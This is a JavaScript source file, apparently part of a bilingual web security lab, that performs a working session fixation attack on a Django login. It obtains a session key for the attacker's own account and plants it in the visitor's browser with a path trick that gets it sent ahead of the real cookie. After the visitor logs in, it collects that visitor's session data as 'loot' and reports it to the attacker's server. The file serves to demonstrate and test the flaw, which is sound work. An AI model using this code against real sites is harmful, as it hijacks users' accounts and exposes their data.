// Session fixation. Before the visitor logs in, the attacker's server logs in to the attacked
// mount with the attacker's own account and gets a live session key; this page (same site as
// the API: cookies ignore ports, as sibling subdomains share a `Domain=` cookie) writes that
// key into the visitor's browser with `document.cookie`. The visitor then logs in with the key
// in their browser. If login keeps it (no `cycle_key`), the attacker's key is now the visitor's
// session, and the attacker's server reads their data with it.

import { config, finish, progress, report } from "./common.js";
import { account, cookieSet, postJson, relay } from "./own_server.js";

const WAIT_MS = 120_000;

/** A live session of the attacker's own account on the attacked mount: its key. */
async function attackersOwnKey() {
  const csrf = await relay("GET", "/api/csrf/");
  const secret = cookieSet(csrf, "csrftoken");
  const login = await postJson("/api/login/", account, [["Cookie", `csrftoken=${secret}`], ["X-CSRFToken", csrf.json.csrfToken]]);
  const key = cookieSet(login, "sessionid");
  if (login.status !== 200 || !key) throw new Error(`POST /api/login/ as ${account.username}: HTTP ${login.status}`);
  return key;
}

/** Who the API says the key stands for: a username, or null once the key is dead. */
async function whoseKey(key) {
  const answer = await relay("GET", "/api/session-data/", { headers: [["Cookie", `sessionid=${key}`]] });
  return answer.status === 200 && answer.json ? answer.json.username : null;
}

try {
  const key = await attackersOwnKey();
  // A longer path than the API's own cookie (`<mount>/`): it is sent first, and no script may
  // overwrite an HttpOnly cookie of the same name and path, which the visitor may already have.
  const mount = new URL(config.api).pathname.replace(/\/$/, "");
  const path = `${mount}/api/`;
  document.cookie = `sessionid=${key}; path=${path}`;
  progress("planted", {
    en: `The attacker's session key is planted in your browser (for ${path}). Now log in on the lab page; this page waits up to two minutes.`,
    ja: `あなたのブラウザーに攻撃者のセッションキー（${path} 用）を仕込みました。ラボのページでログインしてください。このページは最大 2 分待ちます。`,
  });

  const until = Date.now() + WAIT_MS;
  let owner = account.username;
  while (owner === account.username && Date.now() < until) {
    await new Promise((resolve) => setTimeout(resolve, 1000));
    owner = await whoseKey(key);
  }
  const loot = { against: config.against, planted: { key, path }, key_now_belongs_to: owner };
  if (owner && owner !== account.username) {
    const data = await relay("GET", "/api/session-data/", { headers: [["Cookie", `sessionid=${key}`]] });
    loot.session = data.json;
    await report(loot);
    finish(true, loot, {
      en: `your login kept the key the attacker planted, so the attacker's own server now reads your session with it: ${owner}.`,
      ja: `あなたのログインは攻撃者が仕込んだキーをそのまま使いました。攻撃者自身のサーバーはそのキーであなたのセッションを読めます: ${owner}。`,
    });
  } else if (owner === null) {
    await report(loot);
    finish(false, loot, {
      en: "the login gave you a new session key and deleted the one the attacker planted (Django's cycle_key): the attacker's key is dead.",
      ja: "ログインで新しいセッションキーが発行され、攻撃者が仕込んだキーは削除されました（Django の cycle_key）。攻撃者のキーは無効です。",
    });
  } else {
    await report(loot);
    finish(false, loot, {
      en: "in two minutes the planted key never became yours (did you log in to this mount?).",
      ja: "2 分のあいだ、仕込んだキーがあなたのものになることはありませんでした（このマウントにログインしましたか）。",
    });
  }
} catch (e) {
  finish(false, { against: config.against, error: String(e) }, { en: String(e), ja: String(e) });
}
